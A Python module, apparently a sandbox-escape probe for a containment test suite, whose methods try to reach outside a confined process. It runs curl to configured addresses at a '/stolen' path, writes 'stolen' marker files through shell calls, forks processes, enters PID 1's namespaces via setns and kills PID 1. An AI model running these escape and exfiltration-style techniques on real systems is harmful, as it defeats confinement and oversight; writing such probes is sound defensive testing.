"""Attempts to act in another process."""

import multiprocessing
import os
import subprocess

from hostile_client.network import Network
from hostile_client.targets import LIBC, TARGETS, list_markers, quietly


class Processes:
    """Each method starts something that reaches out or writes."""

    def start_curl(self) -> None:
        for address in TARGETS["addresses"]:
            command = ["curl", "--max-time", "2", f"http://{address}:{TARGETS['port']}/stolen"]
            quietly(lambda command=command: subprocess.run(command, capture_output=True))
            quietly(os.posix_spawnp, "curl", command, os.environ)

    def start_shell(self) -> None:
        for path in list_markers("shell"):
            quietly(os.system, f"echo stolen > '{path}'")
            LIBC.system(f"echo stolen > '{path}-libc'".encode())

    def start_curl_by_libc(self) -> None:
        for address in TARGETS["addresses"]:
            LIBC.system(f"curl -s --max-time 2 http://{address}:{TARGETS['port']}/stolen".encode())

    def fork(self) -> None:
        quietly(self._fork_with, os.fork)
        quietly(self._fork_with, LIBC.fork)

    def start_worker(self) -> None:
        worker = multiprocessing.get_context("fork").Process(target=self._reach_out)
        quietly(worker.start)
        quietly(worker.join, 3)

    def enter_namespaces(self) -> None:
        for kind in ("net", "mnt", "user"):
            handle = quietly(os.open, f"/proc/1/ns/{kind}", os.O_RDONLY)
            if handle is not None:
                LIBC.setns(handle, 0)
        self._reach_out()

    def end_recorder(self) -> None:
        if os.getppid() == 1:
            quietly(os.kill, 1, 9)
            LIBC.kill(1, 9)

    def _fork_with(self, fork) -> None:
        if fork() == 0:
            self._reach_out()
            os._exit(0)
        os.wait()

    def _reach_out(self) -> None:
        Network().connect_by_address()
        Network().connect_by_libc()
        for path in list_markers("process"):
            LIBC.open(path.encode(), os.O_WRONLY | os.O_CREAT, 0o644)
